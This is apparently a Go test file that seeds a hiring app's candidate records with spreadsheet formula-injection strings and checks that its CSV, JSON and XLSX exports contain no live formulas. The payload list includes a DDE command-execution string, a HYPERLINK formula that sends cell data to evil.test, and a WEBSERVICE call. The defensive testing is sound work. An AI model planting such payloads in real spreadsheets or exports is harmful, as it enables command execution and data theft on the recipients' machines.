package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	"touchstone/internal/app"
	"touchstone/internal/export"
	"touchstone/internal/hiring"
	"touchstone/internal/store"
	"touchstone/internal/testkit"
)

// attacks are texts that a spreadsheet might run or break, as names and as everything else that somebody writes.
func attacks() []string {
	return []string{
		`=cmd|' /C calc'!A0`, "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1", "line one\n=line two", "İpek Işık; =1+1", `Muñoz "Ñandú", Íñigo`,
		`=HYPERLINK("http://evil.test/?"&A1,"x")`, `=WEBSERVICE("http://127.0.0.1:18099/x")`, "＝1+1", "\u200f=1+1 מיכל",
		"😀👩‍👧 =1+1", "İıŞşĞğÇç ñáü¿¡ — «x»", "1-2", "3/4", "00123", "1e5", "TRUE", "12:30", "2026-11-30",
	}
}

// attacked is a round in which every text that somebody can write is an attack: one candidate for each.
type attacked struct {
	judged
	candidates []hiring.Application
}

func newAttacked(t *testing.T) attacked {
	t.Helper()
	st, path := testkit.FileStore(t)
	r := attacked{judged: judgedIn(t, st)}
	ctx, db := context.Background(), testkit.Raw(t, path)
	for _, s := range attacks() {
		a := r.scored(s, s+" "+ownsUp)
		r.candidates = append(r.candidates, a)
		r.rated(a, "interviewer", s)
		must(t, r.store.Decide(ctx, hiring.Decision{ID: uuid.New(), ApplicationID: a.ID, Outcome: hiring.Hold, Reason: s, By: r.users["hr"].ID, At: r.app.Now()}, nil))
		r.interviewed(a, s)
		for _, set := range []string{`UPDATE candidates SET name = ? WHERE id = ?2`, `UPDATE ratings SET evidence = ? WHERE application_id = ?3`} {
			_, err := db.Exec(set, s, a.CandidateID, a.ID) // a form would have trimmed it
			must(t, err)
		}
	}
	r.app.WorkAll(ctx)
	return r
}

// judgedIn is a judged round in a store of one's own.
func judgedIn(t *testing.T, st *store.Store) judged {
	t.Helper()
	w := worldIn(t, st)
	return judged{w, testkit.NewRound(t, w.app, w.users["recruiter"], 12, func(r *hiring.Requisition) { r.Panel = []uuid.UUID{w.users["interviewer"].ID} })}
}

// rated stores a rating of the candidate's text.
func (j judged) rated(a hiring.Application, who, evidence string) {
	j.t.Helper()
	ctx, rater := context.Background(), j.users[who].ID
	items, err := j.store.ItemsOf(ctx, a.ID, rater)
	must(j.t, err)
	if len([]rune(evidence)) < hiring.MinEvidence {
		items = nil // what an attack writes is shorter than a rater may be
	}
	for _, i := range items {
		item, err := j.app.RatedItem(ctx, rater, i.RequisitionID, i.QuestionVersionID, i.ID)
		must(j.t, err)
		must(j.t, j.app.RateItem(ctx, item, app.GivenRating{Version: item.Version, Level: 3, Evidence: evidence}))
	}
	if len(items) > 0 {
		j.HandIn(rater)
		return
	}
	must(j.t, j.store.AddRatings(ctx, []hiring.Rating{{
		ID: uuid.New(), ApplicationID: a.ID, QuestionVersionID: j.Questions[0].ID, RaterID: j.users[who].ID, Level: 3, Evidence: evidence, CreatedAt: j.app.Now(),
	}}))
}

// interviewed stores an interview with a guest whose scorecard is in.
func (r attacked) interviewed(a hiring.Application, s string) {
	r.t.Helper()
	ctx, now := context.Background(), r.app.Now()
	i := hiring.Interview{
		ID: uuid.New(), ApplicationID: a.ID, RequisitionID: r.Requisition.ID, StartsAt: now, Minutes: 30, TimeZone: "UTC", Place: s, Language: hiring.English,
		ClosesAt: now, CreatedBy: r.users["hr"].ID, CreatedAt: now,
	}
	must(r.t, r.store.AddInterview(ctx, i))
	p := hiring.Panelist{ID: uuid.New(), InterviewID: i.ID, Name: s, Email: "guest@example.org", Language: hiring.English, AddedAt: now}
	must(r.t, r.store.AddPanelists(ctx, []hiring.Panelist{p}))
	card, err := r.store.BeginScorecard(ctx, hiring.Scorecard{ID: uuid.New(), InterviewID: i.ID, PanelistID: p.ID, StartedAt: now, SavedAt: now})
	must(r.t, err)
	_, err = r.store.SaveLine(ctx, hiring.ScorecardLine{ScorecardID: card.ID, Subject: hiring.OfQuestion, SubjectID: r.Questions[0].ID, SavedAt: now, Body: hiring.ScorecardBody{Level: 4, Evidence: s, Notes: s}})
	must(r.t, err)
	_, err = r.store.SaveLine(ctx, hiring.ScorecardLine{ScorecardID: card.ID, Subject: hiring.OfValue, SubjectID: r.Honesty, SavedAt: now, Body: hiring.ScorecardBody{NotRated: true, WhyNot: s}})
	must(r.t, err)
	card.Summary, card.Recommendation = s, hiring.Mixed
	_, err = r.store.SaveOverall(ctx, card)
	must(r.t, err)
	must(r.t, r.store.SubmitScorecard(ctx, card.ID, now))
}

// exports is the address of the round's files.
func (j judged) exports() string { return "/requisitions/" + j.Requisition.ID.String() + "/exports" }

// csvTable reads a CSV file as rows by column.
func csvTable(t *testing.T, a answer, comma rune) []map[string]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.is(200).Body, "\ufeff")))
	r.Comma = comma
	all, err := r.ReadAll()
	must(t, err)
	var out []map[string]string
	for _, row := range all[1:] {
		m := map[string]string{}
		for i, cell := range row {
			m[all[0][i]] = cell
		}
		out = append(out, m)
	}
	return out
}

// jsonTable reads a JSON file.
func jsonTable(t *testing.T, a answer) (out []map[string]any) {
	t.Helper()
	must(t, json.Unmarshal([]byte(a.is(200).Body), &out))
	return out
}

// workbook reads an XLSX file: the rows of a sheet, and a check that none of its cells is anything but text, number,
// truth or time.
func workbook(t *testing.T, a answer, name string) (rows [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader([]byte(a.is(200).Body)))
	must(t, err)
	defer func() { _ = f.Close() }()
	rows, err = f.GetRows(name)
	must(t, err)
	for i, row := range rows {
		for k := range row {
			cell, err := excelize.CoordinatesToCellName(k+1, i+1)
			must(t, err)
			formula, err := f.GetCellFormula(name, cell)
			must(t, err)
			kind, err := f.GetCellType(name, cell)
			must(t, err)
			if formula != "" || kind == excelize.CellTypeFormula || kind == excelize.CellTypeError {
				t.Errorf("%s!%s is of type %v and has the formula %q", name, cell, kind, formula)
			}
		}
	}
	return rows
}

// tableNames are the tables that are about candidates.
func tableNames() []string {
	var out []string
	for _, t := range export.Tables() {
		out = append(out, t.Name())
	}
	return out
}

// textsOf are the cells of a table in which an attack stands, by what the column is named.
func textsOf(name string) []string {
	return map[string][]string{
		"applications": {"name"}, "invitations": {"name"}, "answers": {"name", "text"}, "answer_scores": {"name"}, "value_fits": {"name"},
		"ratings": {"name", "evidence"}, "interviews": {"name", "place"}, "scorecards": {"name", "panelist", "summary"},
		"scorecard_lines": {"name", "panelist", "evidence", "notes", "why_not"}, "decisions": {"name", "reason"},
	}[name]
}

// holds tells whether a text begins with an attack, or is one.
func holds(cell any, attack string) bool { return strings.HasPrefix(fmt.Sprint(cell), attack) }
